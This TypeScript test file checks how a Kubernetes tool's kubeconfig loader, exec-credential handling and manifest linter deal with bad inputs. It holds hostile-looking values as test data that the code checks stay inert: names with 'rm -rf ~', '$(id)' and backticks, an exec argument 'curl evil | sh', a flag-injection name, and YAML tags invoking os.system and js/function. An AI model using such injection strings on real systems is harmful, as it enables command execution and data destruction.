// Bad-input catalogue rows (reliability.md §3) that no other test covered: one test per row, the row ID first in
// the title, as test/bad-inputs.md names them. A test marked `todo` documents a gap in src/ (it runs, and its
// failure is reported, but does not fail the suite); test/bad-inputs.md lists those rows as `partial`.
import { describe, test } from 'node:test';
import * as assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { spawnSync } from 'node:child_process';
import { delimiter, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { mergeKubeconfigs, resolveContext } from '../../src/core/kube/kubeconfig';
import { kubeconfigPaths, loadKubeconfigs } from '../../src/node/kube/kubeconfigFiles';
import { parseExecCredential, isCredentialStale } from '../../src/core/kube/execCredential';
import { describeExecPlugin, execApprovalKey } from '../../src/core/kube/execApproval';
import { ExecCredentialCache } from '../../src/node/kube/execAuthClient';
import { runExecPlugin } from '../../src/node/kube/execPluginRunner';
import { ClusterDeckError } from '../../src/core/errors';
import { defaultLintConfig } from '../../src/core/manifests/lintConfig';
import { lintManifests } from '../../src/core/manifests/lintManifests';
import { parseManifestFile } from '../../src/core/manifests/parseManifests';
import { ruleCatalogue } from '../../src/core/manifests/ruleCatalogue';

const ROOT = join(__dirname, '..', '..');
const CANARY = 'canary-7f3e9a1c-5b2d-4e8f';

function lintText(text: string, path = 'x.yaml') {
  const file = parseManifestFile(path, text);
  return { file, findings: lintManifests([file], ruleCatalogue, defaultLintConfig).get(path) ?? [] };
}

async function withTemp<T>(fn: (dir: string) => Promise<T>): Promise<T> {
  const dir = await mkdtemp(join(tmpdir(), 'cd-badinput-'));
  try {
    return await fn(dir);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

describe('bad-input catalogue rows (reliability.md §3)', () => {
  test('B01: a 0-byte kubeconfig is an empty config: no contexts, no problem', async () => {
    await withTemp(async (dir) => {
      const p = join(dir, 'config');
      await writeFile(p, '');
      const m = await loadKubeconfigs([p]);
      assert.equal(m.contexts.length, 0);
      assert.deepEqual(m.problems, []);
      assert.equal(m.currentContext, undefined);
    });
  });

  test('B02: malformed YAML names the file and line, and never echoes the source (a token stays out)', () => {
    for (const text of [`users:\n- name: u\n  user:\n    token: "${CANARY}\n`, `users:\n- name: u\n  user:\n\ttoken: ${CANARY}\n`]) {
      const m = mergeKubeconfigs([{ path: '/k/config', text }]);
      assert.equal(m.problems.length, 1, JSON.stringify(m.problems));
      const [p] = m.problems;
      assert.equal(p?.path, '/k/config');
      assert.ok(typeof p?.line === 'number' && p.line >= 1, 'a line number');
      assert.ok(!p?.message.includes(CANARY), `the token leaked: ${p?.message}`);
      assert.equal(m.users.size, 0);
    }
  });

  test('B04: a KUBECONFIG list with a missing file: the others load; no crash when all are missing', async () => {
    await withTemp(async (dir) => {
      const good = join(dir, 'good');
      await writeFile(
        good,
        'clusters:\n- name: c\n  cluster: {server: https://c.example}\ncontexts:\n- name: x\n  context: {cluster: c, user: u}\n',
      );
      const paths = kubeconfigPaths({ KUBECONFIG: [join(dir, 'missing'), good].join(delimiter) }, [], dir);
      const m = await loadKubeconfigs(paths);
      assert.deepEqual(
        m.contexts.map((c) => c.name),
        ['x'],
      );
      const none = await loadKubeconfigs([join(dir, 'a'), join(dir, 'b')]);
      assert.equal(none.contexts.length, 0);
    });
  });

  test('B06: a directory named as a kubeconfig is a problem naming it, the other files still load', async () => {
    await withTemp(async (dir) => {
      const good = join(dir, 'good');
      await writeFile(good, 'contexts:\n- name: x\n  context: {cluster: c}\n');
      const m = await loadKubeconfigs([dir, good]);
      assert.equal(m.contexts.length, 1);
      assert.equal(m.problems.length, 1);
      assert.equal(m.problems[0]?.path, dir);
      assert.match(m.problems[0]?.message ?? '', /Not a regular file \(a directory\)/);
    });
  });

  test('B06: a file over the size cap is refused without parsing', async () => {
    await withTemp(async (dir) => {
      const big = join(dir, 'big');
      await writeFile(big, `# ${'x'.repeat(5 * 1024 * 1024)}\n`);
      const m = await loadKubeconfigs([big]);
      assert.equal(m.problems.length, 1);
      assert.match(m.problems[0]?.message ?? '', /MiB/);
    });
  });

  test(
    'B06: a FIFO named as a kubeconfig is refused by a type check, not read (the load finishes)',
    {
      skip: process.platform === 'win32',
    },
    async () => {
      await withTemp((dir) => {
        const fifo = join(dir, 'fifo');
        const made = spawnSync('mkfifo', [fifo]);
        assert.equal(made.status, 0, 'mkfifo');
        // In a child process with a deadline: in this process the hang would block the whole suite.
        const script = `import('${pathToFileURL(join(ROOT, 'src/node/kube/kubeconfigFiles.ts')).href}').then(async (m) => { const load = m.loadKubeconfigs ?? m.default.loadKubeconfigs; const r = await load([${JSON.stringify(fifo)}]); process.stdout.write(JSON.stringify(r.problems)); })`;
        const child = spawnSync(process.execPath, ['--import', 'tsx', '-e', script], { cwd: ROOT, timeout: 5_000, encoding: 'utf8' });
        assert.notEqual(child.signal, 'SIGTERM', 'the load of a FIFO hung');
        assert.equal(child.status, 0, child.stderr);
        assert.match(child.stdout, /fifo/);
        return Promise.resolve();
      });
    },
  );

  test('B07: on this platform only the platform delimiter splits KUBECONFIG; the other one stays in the path', () => {
    const other = delimiter === ':' ? ';' : ':';
    const paths = kubeconfigPaths({ KUBECONFIG: `/k/a${other}b${delimiter}/k/c` }, [], '/home/u');
    assert.deepEqual(paths, [`/k/a${other}b`, '/k/c']);
  });

  test('B08: a current-context that names no context: resolving it is a badConfig error naming it', () => {
    const m = mergeKubeconfigs([
      { path: '/k/config', text: 'current-context: ghost\ncontexts:\n- name: real\n  context: {cluster: c, user: u}\n' },
    ]);
    assert.deepEqual(
      m.contexts.map((c) => c.name),
      ['real'],
    );
    assert.throws(
      () => resolveContext(m, m.currentContext ?? ''),
      (e: unknown) => e instanceof ClusterDeckError && /"ghost"/.test(e.message),
    );
  });

  test('B09: a context naming a missing cluster is an error naming it; the other contexts resolve', () => {
    const m = mergeKubeconfigs([
      {
        path: '/k/config',
        text: [
          'clusters:',
          '- name: ok',
          '  cluster: {server: https://ok.example}',
          'users:',
          '- name: u',
          '  user: {token: t}',
          'contexts:',
          '- name: broken',
          '  context: {cluster: nowhere, user: u}',
          '- name: fine',
          '  context: {cluster: ok, user: u}',
          '',
        ].join('\n'),
      },
    ]);
    assert.throws(
      () => resolveContext(m, 'broken'),
      (e: unknown) => e instanceof ClusterDeckError && /"nowhere"/.test(e.message),
    );
    assert.equal(resolveContext(m, 'fine').cluster.server, 'https://ok.example');
  });

  test('B10: relative certificate-authority and client-certificate paths resolve against the kubeconfig directory', () => {
    const m = mergeKubeconfigs([
      {
        path: '/home/u/.kube/config',
        text: 'clusters:\n- name: c\n  cluster: {server: https://c.example, certificate-authority: ca.crt}\nusers:\n- name: u\n  user: {client-certificate: ../certs/u.crt, client-key: /abs/u.key}\n',
      },
    ]);
    assert.equal(m.clusters.get('c')?.certificateAuthorityFile, '/home/u/.kube/ca.crt');
    assert.equal(m.users.get('u')?.clientCertificateFile, '/home/u/certs/u.crt');
    assert.equal(m.users.get('u')?.clientKeyFile, '/abs/u.key');
  });

  test('B17: a 2 MiB kubeconfig with 2,000 contexts loads (pathology guard), every context kept', async () => {
    const lines: string[] = ['apiVersion: v1', 'kind: Config', 'clusters:'];
    const pad = 'x'.repeat(700);
    for (let i = 0; i < 2000; i++)
      lines.push(`- name: cluster-${i}`, '  cluster:', `    server: https://c${i}.example:6443`, `    certificate-authority-data: ${pad}`);
    lines.push('users:');
    for (let i = 0; i < 2000; i++) lines.push(`- name: user-${i}`, '  user:', `    token: tok-${i}`);
    lines.push('contexts:');
    for (let i = 0; i < 2000; i++) lines.push(`- name: ctx-${i}`, '  context:', `    cluster: cluster-${i}`, `    user: user-${i}`);
    const text = lines.join('\n') + '\n';
    assert.ok(text.length > 1.5 * 1024 * 1024 && text.length < 4 * 1024 * 1024, `${text.length} bytes`);
    await withTemp(async (dir) => {
      const p = join(dir, 'config');
      await writeFile(p, text);
      const started = Date.now();
      const m = await loadKubeconfigs([p]);
      const ms = Date.now() - started;
      assert.equal(m.contexts.length, 2000);
      assert.deepEqual(m.problems, []);
      assert.ok(ms < 10_000, `${ms} ms (pathology guard; the goal is 1 s)`);
    });
  });

  test('B18: Latin-1 bytes and NUL bytes never crash the loader; the problem names the file', async () => {
    await withTemp(async (dir) => {
      const latin = join(dir, 'latin1');
      await writeFile(latin, Buffer.from('clusters:\n- name: caf\xe9\n  cluster: {server: https://c.example}\n', 'latin1'));
      const nul = join(dir, 'nul');
      await writeFile(nul, Buffer.from('clusters:\n\0\0\0- name: x\n'));
      const m = await loadKubeconfigs([latin, nul]);
      for (const p of m.problems) assert.ok(p.path === latin || p.path === nul);
    });
  });

  test('B18: UTF-16 with a BOM is decoded, else a clear "not UTF-8" error', async () => {
    await withTemp(async (dir) => {
      const utf16 = join(dir, 'utf16');
      const body = 'contexts:\n- name: x\n  context: {cluster: c}\n';
      await writeFile(utf16, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(body, 'utf16le')]));
      const latin = join(dir, 'latin1');
      await writeFile(latin, Buffer.from('contexts:\n- name: caf\xe9\n  context: {cluster: c}\n', 'latin1'));
      const m = await loadKubeconfigs([utf16, latin]);
      assert.ok(
        m.contexts.some((c) => c.name === 'x'),
        'UTF-16 with a BOM is decoded',
      );
      assert.ok(
        m.problems.some((p) => p.path === latin && /UTF-8/.test(p.message)),
        'Latin-1 is a "not UTF-8" problem',
      );
    });
  });

  test('B24: invalid JSON, a wrong apiVersion, no status: a clear error naming the plugin; stdout never echoed', () => {
    const plugin = { command: '/usr/local/bin/aws', userName: 'eks-admin' };
    const v1 = 'client.authentication.k8s.io/v1';
    for (const stdout of [
      `not json ${CANARY}`,
      JSON.stringify({ kind: 'ExecCredential', apiVersion: 'client.authentication.k8s.io/v1alpha1', status: { token: CANARY } }),
      JSON.stringify({ kind: 'ExecCredential', apiVersion: v1, spec: { token: CANARY } }),
      JSON.stringify({ kind: 'Nope', apiVersion: v1, status: { token: CANARY } }),
      '',
    ]) {
      assert.throws(
        () => parseExecCredential(stdout, plugin, v1, Date.now()),
        (e: unknown) =>
          e instanceof ClusterDeckError &&
          /printed no valid ExecCredential/.test(e.message) &&
          e.message.includes('"aws" of user "eks-admin"') &&
          !e.message.includes(CANARY),
        stdout,
      );
    }
  });

  test('B25: an expirationTimestamp in the past is never cached (refused only when far beyond any clock skew)', () => {
    const now = Date.parse('2026-01-01T00:00:00Z');
    const parse = (expirationTimestamp: string) =>
      parseExecCredential(
        JSON.stringify({ kind: 'ExecCredential', apiVersion: 'v', status: { token: 't', expirationTimestamp } }),
        { command: 'aws' },
        undefined,
        now,
      );
    // A minute ago: maybe our clock runs ahead (B50): used for the call at hand, stale at once, so never reused.
    const recent = parse('2025-12-31T23:59:00Z');
    assert.equal(recent.expiresAtMs, now - 60_000);
    assert.equal(isCredentialStale(recent, now, now), true);
    // An hour ago: no plausible skew explains it.
    assert.throws(() => parse('2025-12-31T23:00:00Z'), /already expired/);
  });

  test('B25: a credential without expirationTimestamp is cached at most 10 minutes', async () => {
    let t = 0;
    const cache = new ExecCredentialCache(() => t);
    let runs = 0;
    const run = () => Promise.resolve({ token: `t${++runs}` });
    await cache.get('k', run);
    t = 11 * 60_000;
    await cache.get('k', run);
    assert.equal(runs, 2, 'fetched again after 10 minutes');
    assert.equal(isCredentialStale({ token: 'x' }, 0, 11 * 60_000), true);
  });

  test('B27: the same user name with different exec configs in two files never shares a credential', async () => {
    const m = mergeKubeconfigs([
      {
        path: '/a/config',
        text: 'users:\n- name: admin\n  user:\n    exec: {command: aws, args: [eks, get-token, --cluster-name, one]}\n',
      },
    ]);
    const n = mergeKubeconfigs([
      {
        path: '/b/config',
        text: 'users:\n- name: admin\n  user:\n    exec: {command: aws, args: [eks, get-token, --cluster-name, two]}\n',
      },
    ]);
    const same = mergeKubeconfigs([
      {
        path: '/b/config',
        text: 'users:\n- name: admin\n  user:\n    exec: {command: aws, args: [eks, get-token, --cluster-name, one]}\n',
      },
    ]);
    const a = m.users.get('admin');
    const b = n.users.get('admin');
    const c = same.users.get('admin');
    assert.ok(a && b && c);
    const keys = new Set([execApprovalKey(a), execApprovalKey(b), execApprovalKey(c)]);
    assert.equal(keys.size, 3, 'file and command both change the key');
    const cache = new ExecCredentialCache();
    const ta = await cache.get(execApprovalKey(a), () => Promise.resolve({ token: 'for-a' }));
    const tb = await cache.get(execApprovalKey(b), () => Promise.resolve({ token: 'for-b' }));
    assert.equal(ta.token, 'for-a');
    assert.equal(tb.token, 'for-b');
  });

  test('B28: a relative exec command resolves against the kubeconfig dir; a bare name is left for PATH', () => {
    const m = mergeKubeconfigs([
      {
        path: '/home/u/.kube/config',
        text: 'users:\n- name: rel\n  user:\n    exec: {command: ./bin/auth}\n- name: bare\n  user:\n    exec: {command: kubelogin}\n',
      },
    ]);
    assert.equal(m.users.get('rel')?.exec?.command, '/home/u/.kube/bin/auth');
    assert.equal(m.users.get('bare')?.exec?.command, 'kubelogin');
  });

  test('B30: the approval prompt names exec env variables, never their values', () => {
    const m = mergeKubeconfigs([
      {
        path: '/k/config',
        text: `users:\n- name: u\n  user:\n    exec:\n      command: aws\n      args: [eks, get-token]\n      env:\n      - {name: AWS_SECRET_ACCESS_KEY, value: ${CANARY}}\n`,
      },
    ]);
    const user = m.users.get('u');
    assert.ok(user);
    const shown = describeExecPlugin(user);
    assert.match(shown, /AWS_SECRET_ACCESS_KEY/);
    assert.ok(!shown.includes(CANARY));
    assert.ok(!execApprovalKey(user).includes(CANARY));
  });

  test(
    'B30: a plugin that echoes an exec env secret on stderr and fails: the error message does not hold it',
    {
      skip: process.platform === 'win32',
    },
    async () => {
      const err = await runExecPlugin(
        {
          apiVersion: 'client.authentication.k8s.io/v1',
          command: process.execPath,
          args: ['-e', 'console.error("using key " + process.env.MY_KEY); process.exit(3)'],
          env: [{ name: 'MY_KEY', value: CANARY }],
          provideClusterInfo: false,
        },
        { timeoutMs: 10_000, baseEnv: { PATH: process.env.PATH ?? '' }, userName: 'u' },
      ).then(
        () => undefined,
        (e: unknown) => e as Error,
      );
      assert.ok(err instanceof ClusterDeckError, 'the plugin failure is an error');
      assert.match(err.message, /exit code 3/);
      assert.ok(!err.message.includes(CANARY), `the secret leaked: ${err.message}`);
    },
  );

  test('B52: names with ;, $(id), backticks, quotes, spaces and newlines are kept verbatim as data', () => {
    const evil = ['a;rm -rf ~', '$(id)', '`whoami`', `it's "quoted"`, 'with space', 'line\nbreak'];
    const text = [
      'clusters:',
      ...evil.flatMap((n) => [`- name: ${JSON.stringify(n)}`, '  cluster: {server: https://c.example}']),
      'users:',
      ...evil.flatMap((n) => [`- name: ${JSON.stringify(n)}`, '  user: {}']),
      'contexts:',
      ...evil.flatMap((n) => [`- name: ${JSON.stringify(n)}`, `  context: {cluster: ${JSON.stringify(n)}, user: ${JSON.stringify(n)}}`]),
      '',
    ].join('\n');
    const m = mergeKubeconfigs([{ path: '/k/config', text }]);
    assert.deepEqual(m.problems, []);
    assert.deepEqual(
      m.contexts.map((c) => c.name),
      evil,
    );
    for (const n of evil) {
      assert.equal(resolveContext(m, n).cluster.name, n);
      assert.equal(resolveContext(m, n).user.name, n);
    }
  });

  test('B52: an exec argv with shell metacharacters is shown quoted, one argument each', () => {
    const m = mergeKubeconfigs([
      {
        path: '/k/config',
        text: 'users:\n- name: u\n  user:\n    exec:\n      command: /bin/sh\n      args: ["-c", "curl evil | sh", "$(id)"]\n',
      },
    ]);
    const user = m.users.get('u');
    assert.ok(user);
    assert.equal(describeExecPlugin(user), `/bin/sh -c 'curl evil | sh' '$(id)'`);
  });

  test('B53: a name that looks like a flag is refused by the name lint (DNS-1123)', () => {
    const { findings } = lintText('apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: --kubeconfig=evil.yaml\n  namespace: app\n');
    assert.ok(
      findings.some((f) => f.ruleId === 'name-invalid'),
      findings.map((f) => f.ruleId).join(', '),
    );
  });

  test('B54: 253-character names, bidi overrides, zero-width characters and emoji load verbatim', () => {
    const long = 'a'.repeat(253);
    const names = [long, 'admin\u202Etxt.exe', 'zero\u200Bwidth', 'emoji-🚀'];
    const text = ['contexts:', ...names.flatMap((n) => [`- name: ${JSON.stringify(n)}`, '  context: {cluster: c, user: u}']), ''].join(
      '\n',
    );
    const m = mergeKubeconfigs([{ path: '/k/config', text }]);
    assert.deepEqual(
      m.contexts.map((c) => c.name),
      names,
    );
  });

  test('B58: 5,000-deep nested flow collections in a kubeconfig are a problem, not a crash', () => {
    const text = `clusters: ${'['.repeat(5000)}${']'.repeat(5000)}\n`;
    let m: ReturnType<typeof mergeKubeconfigs> | undefined;
    assert.doesNotThrow(() => {
      m = mergeKubeconfigs([{ path: '/k/config', text }]);
    });
    assert.equal(m?.contexts.length, 0);
    assert.equal(m?.problems.length, 1);
    assert.equal(m?.problems[0]?.path, '/k/config');
  });

  test('B59: 10,000 documents in one manifest file lint without a hang (pathology guard)', () => {
    const doc = (i: number) => `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cm-${i}\n  namespace: app\ndata:\n  k: v\n`;
    const text = Array.from({ length: 10_000 }, (_, i) => doc(i)).join('---\n');
    const started = Date.now();
    const { file, findings } = lintText(text);
    const ms = Date.now() - started;
    assert.equal(file.documents.length, 10_000);
    assert.deepEqual(findings, []);
    assert.ok(ms < 60_000, `${ms} ms`);
  });

  test('B61: __proto__ keys pollute nothing, in a manifest or a kubeconfig', () => {
    lintText('apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n  __proto__: {polluted: yes}\ndata:\n  __proto__: {polluted: yes}\n');
    mergeKubeconfigs([
      {
        path: '/k/config',
        text: '__proto__: {polluted: yes}\nclusters:\n- name: c\n  cluster: {__proto__: {polluted: yes}, server: https://x}\n',
      },
    ]);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });

  test('B61: a duplicate key is a yaml-duplicate-key diagnostic', () => {
    const { findings } = lintText('apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n  name: y\n');
    assert.ok(findings.some((f) => f.ruleId === 'yaml-duplicate-key'));
  });

  test('B62: YAML 1.1 scalars (on, yes, 0777) in string fields give the yaml-1-1-scalar diagnostic', () => {
    const { findings } = lintText(
      'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n  namespace: app\n  labels:\n    enabled: on\ndata:\n  mode: 0777\n  debug: yes\n',
    );
    const hits = findings.filter((f) => f.ruleId === 'yaml-1-1-scalar');
    assert.equal(hits.length, 3, findings.map((f) => `${f.ruleId}: ${f.message}`).join('\n'));
  });

  test('B63: custom tags (!!js/function, !!python/object) are not executed and give a diagnostic', () => {
    const text =
      'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n  namespace: app\ndata:\n  f: !!js/function "function () { globalThis.pwned = 1 }"\n  p: !!python/object:os.system ["id"]\n';
    const { findings } = lintText(text);
    assert.equal((globalThis as Record<string, unknown>).pwned, undefined);
    assert.ok(
      findings.some((f) => f.ruleId === 'yaml-syntax' && /Unresolved tag/.test(f.message)),
      findings.map((f) => f.ruleId).join(', '),
    );
    const m = mergeKubeconfigs([{ path: '/k/config', text: 'current-context: !!js/function "function () { globalThis.pwned = 1 }"\n' }]);
    assert.equal((globalThis as Record<string, unknown>).pwned, undefined);
    assert.ok(m.currentContext === undefined || typeof m.currentContext === 'string');
  });
});
